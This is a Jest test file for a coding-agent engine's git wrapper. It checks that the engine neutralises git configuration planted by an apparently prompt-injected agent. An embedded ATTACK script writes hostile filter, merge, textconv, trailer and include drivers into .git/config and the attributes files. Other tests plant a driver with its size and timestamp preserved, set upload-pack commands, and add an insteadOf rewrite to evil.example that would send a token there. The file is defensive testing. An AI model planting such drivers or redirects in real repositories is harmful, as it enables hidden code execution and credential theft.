import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import { execFile } from 'node:child_process'
import { existsSync } from 'node:fs'
import { readdir, readFile, stat, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { taskBranchName } from '../../../src/workspace/branch-names.js'
import { runGit } from '../../../src/workspace/run-git.js'
import { credentialPairs, gitEnvironment } from '../../../src/workspace/git-env.js'
import { silentLogger } from '../../../src/util/logger.js'
import type { TaskWorktree } from '../../../src/workspace/workspace.js'
import { testGitEnv } from '../../harness/git-repo.js'
import { author, createWorkspaceFixture, landTask, put, type WorkspaceFixture } from './workspace-fixture.js'

const run = promisify(execFile)
const feature = 'agent-team/7-config'

/**
 * What a prompt-injected agent's `npm test` could do without an OS sandbox: write drivers into the shared
 * `.git/config` and name them for every path in `.git/info/attributes` and in a committed `.gitattributes`.
 * Each driver leaves a marker file when git runs it.
 */
const ATTACK = `
const { execFileSync } = require('node:child_process')
const fs = require('node:fs')
const path = require('node:path')
const [markers] = process.argv.slice(1)
const common = execFileSync('git', ['rev-parse', '--git-common-dir'], { encoding: 'utf8' }).trim()
const mark = name => \`touch \${path.join(markers, name)}\`
const set = (key, value) => execFileSync('git', ['config', key, value])
set('filter.evil.clean', mark('clean') + '; cat')
set('filter.evil.smudge', mark('smudge') + '; cat')
set('filter.evil.process', mark('process'))
set('filter.evil.required', 'true')
set('merge.evil.driver', mark('merge') + '; false')
set('diff.evil.textconv', mark('textconv') + '; cat')
set('trailer.agent-task.cmd', mark('trailer'))
set('include.path', path.resolve('evil.gitconfig'))
fs.writeFileSync('evil.gitconfig', '[filter "lfs"]\\n\\tclean = ' + mark('included') + '; cat\\n')
fs.mkdirSync(path.join(common, 'info'), { recursive: true })
fs.writeFileSync(path.join(common, 'info', 'attributes'), '* filter=evil merge=evil diff=evil\\n*.bin filter=lfs\\n')
fs.writeFileSync('.gitattributes', '* filter=evil merge=evil diff=evil\\n')
`

describe("the engine's git never runs what the worktree configured", () => {
  let fx: WorkspaceFixture
  let t1: TaskWorktree
  let markers: string

  beforeEach(async () => {
    fx = await createWorkspaceFixture({ files: { 'notes.txt': 'one\ntwo\nthree\n', 'README.md': '# app\n' } })
    markers = join(fx.root, 'markers')
    await put(markers, '.keep', '')
    await fx.workspace.prepareFeatureBranch('main', feature)
    t1 = await fx.workspace.createTaskWorktree('T1', taskBranchName(feature, 'T1'), feature)
  })
  afterEach(() => fx.cleanup())

  async function markersLeft(): Promise<string[]> {
    return (await readdir(markers)).filter(name => name !== '.keep')
  }

  it('commits and merges without running a filter, merge driver, textconv or trailer command', async () => {
    // The feature branch moves on, so merging T1 needs a real three-way content merge of notes.txt.
    const integration = await fx.workspace.integrationWorktree(feature)
    await put(integration, 'notes.txt', 'ONE\ntwo\nthree\n')
    await fx.workspace.commitAll(integration, { message: 'feature: ONE', author })
    await run(process.execPath, ['-e', ATTACK, markers], { cwd: t1.path, env: testGitEnv })
    await put(t1.path, 'notes.txt', 'one\ntwo\nTHREE\n')
    await put(t1.path, 'data.bin', 'payload\n')

    const sha = await fx.workspace.commitAll(t1.path, {
      message: 'T1: notes',
      author,
      trailers: { 'Agent-Task': 'T1' }
    })
    const merged = await landTask(fx.workspace, feature, t1.branch, 'Merge T1')

    expect(await markersLeft()).toEqual([])
    expect(sha).toMatch(/^[0-9a-f]{40}$/)
    // The built-in text merge stood in for the driver, and content went in unfiltered.
    expect(merged).toMatchObject({ ok: true })
    expect(await fx.workspace.readFileAt(feature, 'notes.txt')).toBe('ONE\ntwo\nTHREE\n')
    expect(await fx.workspace.readFileAt(feature, 'data.bin')).toBe('payload\n')
    // The same config does run the drivers for a git that does not neutralise them: the attack is real.
    await run('git', ['-c', 'core.hooksPath=/dev/null', 'checkout', '--', 'notes.txt'], {
      cwd: t1.path,
      env: testGitEnv
    }).catch(() => undefined)
    await put(t1.path, 'notes.txt', 'changed\n')
    await run('git', ['add', 'notes.txt'], { cwd: t1.path, env: testGitEnv }).catch(() => undefined)
    expect((await markersLeft()).length).toBeGreaterThan(0)
  })

  it('neutralises a driver planted after a commit, in a config rewritten to its old size and time', async () => {
    // The first commit lists the config, and the listing is kept for the worktree's next commands.
    const pad = 'a'.repeat(200)
    await fx.git(fx.work, 'config', 'x.pad', pad)
    await put(t1.path, 'a.txt', 'a\n')
    await fx.workspace.commitAll(t1.path, { message: 'T1: a', author })
    const config = join(fx.work, '.git', 'config')
    // touch -r keeps the nanoseconds that utimes() would round away.
    const stamp = join(fx.root, 'stamp')
    await run('touch', ['-r', config, stamp])
    const before = await stat(config, { bigint: true })
    const text = await readFile(config, 'utf8')
    const padLine = `[x]\n\tpad = ${pad}`
    const driver = `[filter "evil"]\n\tclean = touch ${join(markers, 'clean')}; cat`
    const planted = text.replace(padLine, driver.padEnd(padLine.length, ' '))
    expect(planted.length).toBe(text.length)
    await writeFile(config, planted)
    await run('touch', ['-r', stamp, config])
    expect((await stat(config, { bigint: true })).mtimeNs).toBe(before.mtimeNs)
    await put(t1.path, '.gitattributes', '* filter=evil\n')
    await put(t1.path, 'b.txt', 'b\n')

    await fx.workspace.commitAll(t1.path, { message: 'T1: b', author })

    expect(await markersLeft()).toEqual([])
    // The planted driver is real: a git that does not neutralise it runs it.
    await run('git', ['add', '--renormalize', 'b.txt'], { cwd: t1.path, env: testGitEnv }).catch(
      () => undefined
    )
    expect(await markersLeft()).toEqual(['clean'])
  })

  it('fetches over a local transport without running a configured upload-pack', async () => {
    const marker = join(markers, 'upload-pack')
    await fx.git(fx.work, 'config', 'remote.origin.uploadpack', `touch ${marker}; git-upload-pack`)
    await fx.git(fx.work, 'config', 'remote.origin.receivepack', `touch ${marker}; git-receive-pack`)
    await put(t1.path, 'a.txt', 'a\n')
    await fx.workspace.commitAll(t1.path, { message: 'T1: a', author })

    await fx.workspace.push(t1.branch, { force: true })

    expect(existsSync(marker)).toBe(false)
    expect(await fx.git(fx.origin, 'rev-parse', t1.branch)).toBe(
      await fx.git(fx.work, 'rev-parse', t1.branch)
    )
  })

  it('refuses to send the token where a rewritten URL or a proxy in the repository config leads', async () => {
    await fx.git(fx.work, 'config', 'url.https://evil.example/.insteadOf', 'https://github.com/')
    const env = {
      ...testGitEnv,
      GIT_CONFIG_COUNT: '1',
      GIT_CONFIG_KEY_0: 'http.https://github.com/.extraheader',
      GIT_CONFIG_VALUE_0: 'AUTHORIZATION: basic dG9rZW4='
    }

    const outcome = runGit(fx.work, ['ls-remote', 'https://github.com/o/r'], { env, logger: silentLogger })

    await expect(outcome).rejects.toThrow(
      /url\.https:\/\/evil\.example\/\.insteadof .*git config --local --unset-all/
    )
  })
})

describe("the engine's git environment", () => {
  let fx: WorkspaceFixture
  beforeEach(async () => {
    fx = await createWorkspaceFixture()
  })
  afterEach(() => fx.cleanup())

  it('is built from nothing: no secrets, no redirections, and the token only for the remote', async () => {
    const env = {
      ...testGitEnv,
      ANTHROPIC_API_KEY: 'sk-secret',
      GIT_DIR: '/somewhere/else',
      GIT_CONFIG_PARAMETERS: "'core.pager'='./evil'",
      GIT_CONFIG_COUNT: '1',
      GIT_CONFIG_KEY_0: 'http.https://github.com/.extraheader',
      GIT_CONFIG_VALUE_0: 'AUTHORIZATION: basic dG9rZW4='
    }

    // `git var -l` prints the configuration git runs with and its idea of the environment.
    const seen = (await runGit(fx.work, ['var', '-l'], { env, logger: silentLogger })).stdout

    expect(seen).toContain('core.hookspath=/dev/null')
    expect(seen).toContain('core.fsmonitor=false')
    expect(seen).not.toContain('extraheader')
    expect(seen).not.toContain('evil')
    expect(seen).toContain('GIT_EDITOR=:')
  })
})

describe('gitEnvironment', () => {
  it('passes proxies and the credential pairs to network commands only', () => {
    const source = { PATH: '/bin', HTTPS_PROXY: 'http://proxy:3128', GITHUB_TOKEN: 'ghs_x', HOME: '/home/me' }
    const local = gitEnvironment(source, { network: false, userConfig: false })
    const remote = gitEnvironment(source, { network: true, userConfig: false })

    expect(Object.keys(local).sort()).toEqual(
      expect.not.arrayContaining(['HTTPS_PROXY', 'GITHUB_TOKEN', 'GIT_CONFIG_COUNT'])
    )
    expect(local).toMatchObject({ PATH: '/bin', GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' })
    expect(local.HOME).not.toBe('/home/me')
    expect(remote).toMatchObject({ HTTPS_PROXY: 'http://proxy:3128', GIT_SSH_COMMAND: 'ssh' })
    expect(remote.GITHUB_TOKEN).toBeUndefined()
    expect(
      credentialPairs({ GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'a.b', GIT_CONFIG_VALUE_0: 'c' })
    ).toEqual([['a.b', 'c']])
  })

  it("reads the person's own config for a push without an explicit credential (the command line tool)", () => {
    const env = gitEnvironment({ PATH: '/bin', HOME: '/home/me' }, { network: true, userConfig: true })
    expect(env.HOME).toBe('/home/me')
    expect(env.GIT_CONFIG_GLOBAL).toBeUndefined()
  })
})
